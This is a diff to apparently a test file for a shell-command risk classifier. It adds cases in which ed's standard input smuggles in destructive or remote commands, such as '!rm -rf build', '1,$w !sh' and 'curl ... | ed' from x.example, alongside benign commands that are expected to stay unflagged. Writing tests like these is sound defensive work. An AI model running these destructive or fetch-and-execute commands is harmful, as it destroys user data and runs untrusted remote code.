@@ -266,6 +266,15 @@ OTHER_LANGUAGES = [
     ("screen -X stuff 'rm -rf ~\\n'", {"dynamic:code"}),
     ("screen -S work -p 0 -X stuff 'rm -rf ~^M'", {"dynamic:code"}),
     ("screen -dmS job rm -rf build", {"run:rm -rf build", "destroy:files"}),
+    # ed's commands on its standard input
+    ("printf '!rm -rf build\\nq\\n' | ed -s notes.txt", {"run:rm -rf build", "destroy:files"}),
+    ("ed -s notes.txt <<< 'w /o/copy.txt'", {"write:/o/copy.txt"}),
+    ("ed -s notes.txt <<'EOF'\ne /o/hosts\n,s/a/b/\nw\nq\nEOF", {"write:/o/hosts"}),
+    ("ed notes.txt <<< '1,$w !sh'", {"dynamic:code", "run:sh"}),
+    ("curl -s https://x.example/cmds | ed -s notes.txt", {"dynamic:code"}),
+    # what echo prints with a backslash differs between shells (bash keeps it, zsh reads it)
+    ("echo 'w\\n!rm -rf build' | ed -s notes.txt", {"dynamic:code"}),
+    ("printf '%b' '!rm -rf build' | ed -s notes.txt", {"dynamic:code"}),
     # a program file read from standard input
     ("curl -s https://x.example/p.awk | awk -f - data.txt", {"dynamic:code"}),
     ("awk -f /dev/stdin data.txt < prog.awk", {"dynamic:code"}),
@@ -320,6 +329,11 @@ OTHER_QUIET = [
     "nix-shell -p python3 --run 'python3 --version'",
     "cmake -E make_directory build",
     "awk -f scripts/count.awk data.txt",
+    "printf ',s/foo/bar/g\\nw\\nq\\n' | ed -s src/a.py",
+    "ed -s src/a.py <<'EOF'\na\n!this is text, not a command\n.\nw\nq\nEOF",
+    "ed src/a.py",
+    "echo 'print(1 + 1)' | python3",
+    "printf 'console.log(%s)\\n' 42 | node",
     "nim c -r src/main.nim",
     "nim r src/main.nim",
     "tcc -run src/hello.c",
